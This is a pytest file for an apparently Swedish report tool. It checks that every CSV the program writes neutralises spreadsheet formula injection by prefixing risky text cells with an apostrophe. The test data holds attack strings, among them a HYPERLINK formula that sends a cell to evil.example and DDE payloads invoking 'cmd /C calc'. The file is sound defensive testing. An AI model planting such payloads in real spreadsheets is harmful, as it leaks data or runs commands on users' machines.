"""CSV injection (issue 12.4): a text cell that Excel would run as a formula is written
neutralised in every CSV the program writes; numbers the program writes stay numbers."""

from __future__ import annotations

import csv
import io
import json
import re
from datetime import datetime
from pathlib import Path

import pytest

from po_desk.domain import categories
from po_desk.reports import aterrapport_csv
from po_desk.reports.csv_export import csv_cell, text_cell
from po_desk.services import sammanstallning_service
from po_desk.store.audit_repo import AuditRow
from tests.test_aggregate import random_return

LINK = '=HYPERLINK("http://evil.example/?q="&A1;"Klicka här")'
ATTACKS = [LINK, "+1+2", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
           "\t=1+1", "\r=1+1", " =1+1", "\n=1+1", "＝1+1"]  # fmt: skip
TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "＝")
NUMBER = re.compile(r"-?\d+(,\d+)?")


def cells(data: bytes) -> list[str]:
    assert data.startswith(b"\xef\xbb\xbf")
    text = data.decode("utf-8-sig")
    return [
        cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=";") for cell in row
    ]


def assert_no_formula(all_cells: list[str]) -> None:
    for cell in all_cells:
        if NUMBER.fullmatch(cell):
            continue
        assert not cell.lstrip(" \n").startswith(TRIGGERS), cell


@pytest.mark.parametrize("attack", ATTACKS)
def test_text_cells_that_excel_would_run_get_an_apostrophe(attack: str) -> None:
    assert text_cell(attack) == "'" + attack
    assert csv_cell(attack) == "'" + attack


def test_ordinary_text_and_the_programs_numbers_are_left_alone() -> None:
    assert csv_cell("Stöd – ekonomi") == "Stöd – ekonomi"
    assert csv_cell("–") == "–"
    assert csv_cell(-5) == "-5" and csv_cell(-2.5) == "-2,50" and csv_cell(0.25) == "0,25"
    assert csv_cell(None) == ""


def attacked_return(seed: int, name: str) -> dict:
    document = random_return(seed, name)
    document["verksamhet"]["kommuner"] = ["+46 Kommun"]
    ordning = document["prioriteringsordning"]
    if not ordning["grunder"]:  # this seed decided none: give it one decided ground
        ordning.update(har_prioriteringsordning=True, beslutad=True, beslutsdatum="2024-01-01",
                       beslutad_av="ledningsgrupp")  # fmt: skip
        ordning["grunder"] = [{"rang": 1, "grund": "barn", "namn": ""}]
    ordning["grunder"][0]["namn"] = "@SUM(1+1)"
    document["manuellt"]["kommentarer"] = "-2+3"
    document["brister"]["texter"].append(
        {
            "datum": "2025-03-01",
            "aktor": categories.AKTORER[0].code,
            "niva": categories.NIVAER[0].code,
            "kategorier": [categories.BRISTKATEGORIER[0].code],
            "beskrivning": LINK,
            "konsekvens": "\t=1+1",
            "atgarder": [categories.ATGARDER[0].code],
            "status": "",
            "aterkoppling": "\r=1+1",
        }
    )
    return document


def test_aterrapport_csv_neutralises_free_text() -> None:
    written = cells(aterrapport_csv.render(attacked_return(1, LINK)))
    assert written.count("'" + LINK) == 2  # the verksamhet's name and the brist
    for attack in ("'+46 Kommun", "'@SUM(1+1)", "'-2+3", "'\t=1+1", "'\r=1+1"):
        assert attack in written
    assert_no_formula(written)


def test_sammanstallning_csv_neutralises_free_text(tmp_path: Path) -> None:
    paths = []
    for seed, name in ((1, "PO Ett"), (2, LINK)):
        document = attacked_return(seed, name)
        document["verksamhet"]["lan"] = "=1+1 län"
        path = tmp_path / f"{seed}.json"
        path.write_text(json.dumps(document), encoding="utf-8")
        paths.append(path)
    out = tmp_path / "samman.csv"
    sammanstallning_service.aggregate(paths, out)
    written = cells(out.read_bytes())
    # The län is read through SCB's list (issue 15): its official name, never the text.
    assert not any("=1+1" in cell for cell in written) and "'@SUM(1+1)" in written
    assert_no_formula(written)


def test_audit_csv_neutralises_free_text(workspace, tmp_path: Path) -> None:
    out = tmp_path / "logg.csv"
    rows = [AuditRow(datetime(2025, 1, 2, 3, 4, 5), LINK, "-ändrad", "uppdrag", "@12")]
    workspace.audit.export_csv(out, rows)
    written = cells(out.read_bytes())
    assert {"'" + LINK, "'-ändrad", "'@12"} <= set(written)
    assert_no_formula(written)


def test_every_csv_writer_goes_through_the_shared_helper() -> None:
    """No module but the helper makes its own csv writer."""
    package = Path(__file__).resolve().parents[1] / "po_desk"
    writers = [
        p.relative_to(package).as_posix()
        for p in package.rglob("*.py")
        if re.search(r"csv\.(writer|DictWriter)\(", p.read_text(encoding="utf-8"))
    ]
    assert writers == ["reports/csv_export.py"]
